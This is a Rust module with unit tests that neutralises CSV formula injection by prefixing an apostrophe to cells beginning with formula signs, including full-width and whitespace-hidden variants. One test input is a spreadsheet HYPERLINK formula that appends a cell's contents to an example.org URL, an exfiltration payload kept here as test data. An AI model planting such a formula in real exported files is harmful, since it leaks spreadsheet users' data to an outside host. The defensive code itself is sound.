//! No text becomes a formula.
//!
//! A spreadsheet that opens a CSV file takes a cell that begins with `=`, `+`, `-` or `@` for a formula, which can send the
//! sheet elsewhere or start programs. Such a text is written with an apostrophe before it, as OWASP advises ("CSV
//! Injection"): the program then shows it as text. Spaces and controls before the sign do not help an attacker, nor do the
//! wide forms of the signs, which some input methods turn into the others.

use std::borrow::Cow;

/// What a formula begins with.
const SIGNS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/// What some programs cut off, or split cells at.
const BREAKS: [char; 3] = ['\t', '\r', '\n'];

/// The text, so written that it stays text.
pub(super) fn guarded(text: &str) -> Cow<'_, str> {
    let is_nothing = |c: char| c.is_whitespace() || c.is_control() || matches!(c, '\u{200b}'..='\u{200f}' | '\u{feff}');
    let is_formula = text.trim_start_matches(is_nothing).starts_with(SIGNS) || text.starts_with(BREAKS);
    if is_formula { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

#[cfg(test)]
mod tests {
    use super::guarded;

    fn check(text: &str, expected: &str) {
        assert_eq!(guarded(text), expected, "{text:?}");
    }

    #[test]
    fn what_would_be_a_formula_is_text() {
        check("=HYPERLINK(\"http://example.org?\"&A1)", "'=HYPERLINK(\"http://example.org?\"&A1)");
        check("+41 44 000 00 00", "'+41 44 000 00 00");
        check("-1", "'-1");
        check("@SUM(1)", "'@SUM(1)");
        check("＝1+1", "'＝1+1");
        check(" =1", "' =1");
        check("\u{feff}=1", "'\u{feff}=1");
        check("\t=1", "'\t=1");
        check("\rx", "'\rx");
        check("\u{0}=1", "'\u{0}=1");
    }

    #[test]
    fn other_text_is_left_alone() {
        for text in ["", "Ada Lovelace", "Zoé", "S-001", "a=b", "'quoted'", " ", "1+1", "李小龍"] {
            check(text, text);
        }
    }
}
